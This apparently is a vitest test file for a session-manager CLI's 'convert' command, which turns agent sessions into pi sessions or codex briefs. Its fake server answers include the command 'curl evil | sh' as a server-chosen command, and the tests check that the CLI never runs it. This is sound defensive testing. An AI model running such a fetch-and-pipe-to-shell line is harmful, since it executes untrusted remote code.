import { mkdtemp, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EXIT } from "../failure.ts";
import { runFake } from "../fake-shell.fixture.ts";

const SOURCE = { id: "4f2a91c0", path: "/c/a.jsonl", title: "Tide", format: "claude-code", cwd: "/home/ada/it's" };
const CONVERTED = { id: "0199", path: "/p/new one.jsonl", title: "Tide", format: "pi", cwd: "/home/ada/it's" };
const NOTHING = { session: null, brief: null, brief_path: null };
const BRIEF = { ...NOTHING, to: "codex", brief: "# Hand-over", brief_path: "/data/briefs/codex-1.md", command: "evil" };

const answersWith = (converted: object) => ({
  list_sessions: { sessions: [SOURCE], next_cursor: null, total: 1, pending: 0 },
  convert_session: converted,
});
const toPi = answersWith({ ...NOTHING, to: "pi", session: CONVERTED, command: "curl evil | sh" });
const toCodex = answersWith(BRIEF);

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "session-manager-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

describe("convert", () => {
  const pi = "cd '/home/ada/it'\\''s' && pi --session '/p/new one.jsonl'";
  const codex = (file: string) => `cd '/home/ada/it'\\''s' && codex "$(cat ${file})"`;

  it("tells the new session and the command that goes on with it, which no server chooses", async () => {
    const run = await runFake(["convert", "4f2a", "--to", "pi", "--entry", "e1"], { answers: toPi });
    expect(run.sent.at(-1)).toEqual(["convert_session", { path: "/c/a.jsonl", to: "pi", entry_id: "e1" }]);
    expect(run).toMatchObject({
      error: null,
      stdout: `Session: /p/new one.jsonl\nContinue with:\n${pi}\n`,
      executed: [],
    });
    expect((await runFake(["convert", "4f2a", "--to", "pi", "-q"], { answers: toPi })).stdout).toBe(
      "/p/new one.jsonl\n",
    );
    const json = await runFake(["convert", "4f2a", "--to", "pi", "--json"], { answers: toPi });
    expect(JSON.parse(json.stdout)).toMatchObject({ session: { path: "/p/new one.jsonl" }, command: pi });
  });

  it("tells where the brief is that the service has written", async () => {
    const { stdout } = await runFake(["convert", "4f2a", "--to", "codex"], { answers: toCodex });
    expect(stdout).toBe(`Brief: /data/briefs/codex-1.md\nContinue with:\n${codex("/data/briefs/codex-1.md")}\n`);
  });

  it("has words of the user's own replaced in a brief", async () => {
    const argv = ["convert", "4f2a", "--to", "codex", "--redact-word", "Ada", "--redact-word", "Acme Corp"];
    const { sent } = await runFake(argv, { answers: toCodex });
    expect(sent.at(-1)).toEqual(["convert_session", expect.objectContaining({ redact_words: ["Ada", "Acme Corp"] })]);
  });

  it("writes the brief to a file that was not there, for the user alone", async () => {
    const file = join(folder, "brief.md");
    const { stdout } = await runFake(["convert", "4f2a", "--to", "codex", "-o", file], { answers: toCodex });
    expect(stdout).toBe(`Brief: ${file}\nContinue with:\n${codex(file)}\n`);
    expect(await readFile(file, "utf8")).toBe("# Hand-over");
    expect((await stat(file)).mode & 0o077).toBe(0);
    const again = await runFake(["convert", "4f2a", "--to", "codex", "-o", file], { answers: toCodex });
    expect(again.error).toMatchObject({ exitCode: EXIT.refused });
  });

  it.each<[string, string[], number]>([
    ["a file for a session of pi", ["convert", "4f2a", "--to", "pi", "-o", "x"], EXIT.usage],
    ["a session that is not there", ["convert", "/c/b.jsonl", "--to", "pi"], EXIT.notFound],
  ])("refuses %s", async (_, argv, exitCode) => {
    expect((await runFake(argv, { answers: toPi })).error).toMatchObject({ exitCode });
  });

  it.each([["--to", "emacs"], []])("asks for one of the agents: %s", async (...options) => {
    const { error, sent } = await runFake(["convert", "4f2a", ...options], { answers: toPi });
    expect(error).toMatchObject({ code: expect.stringContaining("commander.") });
    expect(sent).toEqual([]);
  });
});
